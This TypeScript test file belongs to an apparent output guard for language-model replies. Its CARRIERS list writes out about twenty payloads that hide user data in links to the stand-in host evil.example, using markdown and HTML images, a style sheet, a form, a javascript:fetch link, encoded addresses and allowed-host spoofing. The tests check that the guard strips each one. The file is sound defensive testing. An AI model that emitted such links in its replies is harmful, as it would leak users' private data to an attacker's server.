import { modelDouble, onEveryAdapter } from 'unseen-guardian/testing';
import { hear } from './listener';
import { readingDesks } from './reading-desk';
import { SPLITS } from './splits';

const EVIL = 'evil.example';
const MAIL = 'jane.doe@example.org';
const OPTIONS = { unsafeOutput: { hosts: ['docs.example.com'] } };

/** How an address carries data to its host, and what else of it must not arrive. */
const CARRIERS: readonly (readonly [name: string, write: (data: string) => string, absent?: string])[] = [
  ['an image', (data) => `![chart](https://${EVIL}/?q=${data})`],
  ['an image by reference', (data) => `![chart][1]\n\n[1]: https://${EVIL}/?q=${data} "Chart"`],
  ['an image by short reference', (data) => `![chart]\n\n[chart]:\n  <https://${EVIL}/?q=${data}>`],
  ['an image without a scheme', (data) => `![chart](//${EVIL}/${data})`],
  ['an image in a link', (data) => `[![a](https://${EVIL}/${data})](https://docs.example.com/)`],
  ['a link with a title', (data) => `[help](https://${EVIL}/?q=${data} "docs.example.com")`],
  ['an HTML image', (data) => `<img src="https://${EVIL}/?q=${data}">`, '<img'],
  ['an HTML image with a set', (data) => `<img srcset='//${EVIL}/${data} 2x' src=x>`, '<img'],
  ['a style sheet', (data) => `<style>p{background:url(https://${EVIL}/${data})}</style>`, '<style'],
  ['a form', (data) => `<form action="https://${EVIL}/"><input name=q value="${data}"></form>`, '<form'],
  ['an automatic link', (data) => `<https://${EVIL}/?q=${data}>`],
  ['a bare address', (data) => `See https://${EVIL}/?q=${data}.`],
  ['a bare host', (data) => `See www.${EVIL}/${data}`],
  ['a host in capitals', (data) => `HTTPS://EVIL.EXAMPLE/${data}`, 'EVIL.EXAMPLE'],
  ['a name below a host', (data) => `![x](https://${data.replace(/\W/g, '-')}.${EVIL}/)`],
  ['an allowed host as a user', (data) => `![x](https://docs.example.com@${EVIL}/${data})`],
  ['an allowed host as a prefix', (data) => `![x](https://docs.example.com.${EVIL}/${data})`],
  ['an allowed host that passes on', (data) => `https://docs.example.com/?to=https://${EVIL}/${data}`],
  ['entities', (data) => `![x](https&#58;&#47;&#47;evil&period;example/${data})`, 'evil&period;'],
  ['backslashes', (data) => `![x](https:\\\\${EVIL}\\${data})`],
  ['a data address', (data) => `![x](data:text/html,${data})`, 'data:text'],
  ['a script address', (data) => `[x](javascript:fetch('//${EVIL}/${data}'))`, 'javascript:'],
];

/** What may stay as it is. */
const HARMLESS = [
  '![chart](https://docs.example.com/chart.png)',
  'See [the page](https://docs.example.com/a?b=c "Title"), please.',
  '[page][1]\n\n[1]: https://docs.example.com/a',
  '<https://docs.example.com/>',
  'Go to https://docs.example.com/a.',
  '[help](/help#top) and ![logo](logo.png)',
  'Note: 3/4 of it, and/or more (see [1]).',
];

onEveryAdapter((start) => {
  const open = readingDesks(start);

  it.each(CARRIERS.map(([name, write, absent = EVIL]) => [name, write, absent] as const))(
    '%s carries nothing out, however it was cut',
    async (_name, write, absent) => {
      let cut = (text: string) => [text];
      const model = modelDouble({
        // The value in the prompt has a pseudonym: that is what the model knows of it.
        speak: ({ text }) => cut(`Done. ${write(/⟦[^⟧]+⟧/.exec(text)![0])} Bye.`),
      });
      const desk = await open({ model, options: OPTIONS });
      const answers: string[] = [];
      for (const split of [...Object.values(SPLITS), cut]) {
        cut = split;
        const { text, problems, record } = await hear(desk, { question: `Write to ${MAIL} today` });
        for (const part of [EVIL, absent, 'jane']) expect(text).not.toContain(part);
        expect(problems).toEqual([]);
        expect(record).toMatchObject({ outcome: 'completed', controls: { 'unsafe-output': 'transform' } });
        answers.push(text);
      }
      expect(new Set(answers).size).toBe(1);
      expect(answers[0]).toMatch(/^Done\. .*Bye\.$/s);
      expect((await hear(desk, { way: 'ask', question: `Write to ${MAIL} today` })).text).toBe(answers[0]);
    },
  );

  it.each(HARMLESS)('lets allowed addresses be: %s', async (reply) => {
    let cut = (text: string) => [text];
    const desk = await open({ model: modelDouble({ speak: () => cut(reply) }), options: OPTIONS });
    for (const split of Object.values(SPLITS)) {
      cut = split;
      const { text, record } = await hear(desk);
      expect(text).toBe(reply);
      expect(record).toMatchObject({ controls: { 'unsafe-output': 'pass' } });
    }
    expect((await hear(desk, { way: 'ask' })).text).toBe(reply);
  });

  it('allows no host that nobody named', async () => {
    const desk = await open({ model: modelDouble({ replies: HARMLESS.slice(0, 1) }) });
    expect((await hear(desk)).text).toBe('[image removed]');
  });
});
